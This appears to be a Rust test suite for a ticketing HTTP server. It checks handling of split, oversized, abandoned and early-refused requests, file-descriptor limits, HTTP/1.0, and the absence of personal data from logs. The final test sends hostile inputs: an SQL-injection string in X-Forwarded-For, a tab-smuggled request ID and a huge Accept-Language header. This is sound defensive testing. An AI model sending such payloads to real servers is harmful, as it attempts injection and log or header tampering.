    let next = Request::post("/api/tickets/crear", seed().to_string()).octets();
    for sent in [1, 30, next.len() - 5] {
        let first = Request::post("/api/tickets/crear", seed().to_string()).octets();
        client.send([&first, &next[..sent]].concat()).await;
        client.answer().await.ok();
        client.send(&next[sent..]).await;
        client.answer().await.ok();
    }
}

#[tokio::test]
async fn who_asks_before_sending_is_told_to_go_on_or_not_to() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let body = seed().to_string();
    let request = Request::post("/api/tickets/crear", body.clone()).header("Expect", "100-continue");
    client.send(request.head()).await;
    assert_eq!(client.answer().await.status, 100);
    client.send(&body).await;
    client.answer().await.ok();

    for (request, status) in [
        (
            Request::new("POST", "/api/tickets/crear")
                .header("Content-Type", "application/json")
                .header("Content-Length", "2000000"),
            413,
        ),
        (
            Request::new("POST", "/api/tickets/crear")
                .header("Content-Type", "text/plain")
                .header("Content-Length", "20"),
            415,
        ),
        (Request::new("POST", "/nada").header("Content-Length", "20"), 404),
    ] {
        let mut client = server.connect().await;
        client.send(request.header("Expect", "100-continue").head()).await;
        assert_eq!(client.answer().await.status, status);
    }
}

/// Each in turn, with the body a little later than the head: as most clients send them.
#[tokio::test]
async fn a_request_that_is_refused_before_its_body_is_there_does_not_end_its_connection() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let body = seed().to_string();
    for (request, status) in [
        (Request::post("/nada", body.clone()), 404),
        (Request::post("/livez", body.clone()), 405),
        (Request::post_as("/api/tickets/crear", body.clone()).header("Content-Type", "text/plain"), 415),
        (Request::post("/api/auth/users", body.clone()), 401),
        (Request::post("/v2/tickets", body.clone()), 401),
        (Request::post("/v2/tickets", " ".repeat(BODY_OCTETS_MAX)), 401),
        (chunked("/v2/tickets", &body), 401),
    ] {
        let octets = request.octets();
        let (head, body) = octets.split_at(request.head().len());
        client.send(head).await;
        sleep(Duration::from_millis(50)).await;
        client.send(body).await;
        let answer = client.answer().await;
        assert_eq!((answer.status, answer.header("connection")), (status, None), "{answer}");
        client.get("/livez").await;
    }
}

#[tokio::test]
async fn a_request_that_is_not_read_to_its_end_says_that_its_connection_ends() {
    let desk = Desk::new();
    let server = desk.serve();
    let post = |path| Request::new("POST", path).header("Content-Type", "application/json");
    for (request, sent, status) in [
        // Of what is too much, nothing is waited for.
        (post("/v2/tickets").header("Content-Length", "2000000"), "", 401),
        (post("/api/tickets/crear").header("Content-Length", "2000000"), "", 413),
        (post("/nada").header("Content-Length", "20").header("Expect", "100-continue"), "", 404),
        // What does not come is given up.
        (post("/nada").header("Content-Length", "20"), "{", 404),
        (post("/nada").header("Transfer-Encoding", "chunked"), "zz\r\n", 404),
    ] {
        let mut client = server.connect().await;
        let began = Instant::now();
        client.send(request.head() + sent).await;
        let answer = client.answer().await;
        assert_eq!((answer.status, answer.header("connection")), (status, Some("close")), "{answer}");
        assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
        client.is_closed().await;
    }
    still_serves(&server).await;
}

#[tokio::test]
async fn who_hangs_up_in_the_middle_of_a_body_leaves_nothing_behind() {
    let desk = Desk::new();
    let server = desk.serve();
    let request = Request::post("/api/tickets/crear", seed().to_string()).octets();
    for sent in (0..request.len()).step_by(request.len() / 60) {
        let mut client = server.connect().await;
        client.send(&request[..sent]).await;
    }
    sleep(Duration::from_millis(200)).await;
    let created = server.connect().await.post("/api/tickets/crear", &seed()).await.ok();
    assert!(created["ticketLabel"].as_str().unwrap().ends_with("-00001"), "{created}");
    still_serves(&server).await;
    assert!(!server.log().contains("panicked"), "{}", server.log());
}

/// A server that may have only so many files open.
fn serve_with_files(desk: &Desk, limit: &str) -> Server {
    desk.serve_with(|command| {
        let mut limited = desk.program_at(Path::new("sh"));
        limited.args(["-c", &format!("ulimit {limit} && exec \"$0\" \"$@\"")]);
        limited.arg(command.get_program()).args(command.get_args()).env("TICKETING_RATE_LIMITS", "off");
        *command = limited;
        command
    })
}

/// Most systems grant 1,024 unasked.
#[tokio::test]
async fn as_many_files_are_open_as_the_system_allows() {
    let desk = Desk::new();
    let server = serve_with_files(&desk, "-Sn 64");
    let mut clients = Vec::new();
    for _ in 0..200 {
        let mut client = server.connect().await;
        assert_eq!(client.get("/livez").await.status, 200);
        clients.push(client);
    }
    still_serves(&server).await;
}

#[tokio::test]
async fn who_opens_connections_and_says_nothing_leaves_files_for_those_who_are_served() {
    let desk = Desk::new();
    let server = serve_with_files(&desk, "-n 200");
    let mut client = server.connect().await;
    client.get("/livez").await;
    let mut silent = Vec::new();
    // Those beyond the hundredth wait to be accepted.
    for _ in 0..180 {
        silent.push(server.connect().await);
    }
    sleep(Duration::from_millis(500)).await;
    // Files that nobody has opened so far.
    let created = client.post("/api/tickets/crear", &seed()).await.ok();
    let look_up = json!({ "label": created["ticketLabel"], "email": seed()["email"] });
    client.post("/api/tickets/consultar", &look_up).await.ok();
    assert_eq!(client.get("/readyz").await.status, 200);
    let log = server.log();
    assert!(log.contains("connections_max=100") && !log.contains("could not be accepted"), "{log}");
}

#[tokio::test]
async fn http_1_0_is_answered_and_closed() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    client.send("GET /livez HTTP/1.0\r\n\r\n").await;
    assert_eq!(client.answer().await.body, b"ok\n");
    client.is_closed().await;
}

#[tokio::test]
async fn a_hostile_header_is_not_a_line_of_the_log_or_of_the_answer() {
    let desk = Desk::new();
    let server = desk.serve_with(|command| command.env("TICKETING_RATE_LIMITS", "off").env("TICKETING_LOG", "debug"));
    let mut client = server.connect().await;
    let request = Request::post(
        "/api/tickets/crear",
        seed_with(&json!({ "descripcion": "secreto-de-la-descripción" })).to_string(),
    )
    .header("X-Request-Id", "evil\tid")
    .header("Accept-Language", &"en;q=0.1,".repeat(2000))
    .header("X-Forwarded-For", "' OR 1=1 --");
    client.ask(&request).await.ok();
    // No personal data in the log.
    for private in ["Ana García", "ana.garcia@example.com", "+573001234567", "12345678", "secreto-de-la"] {
        assert!(!server.log().contains(private), "{private}: {}", server.log());
    }
}
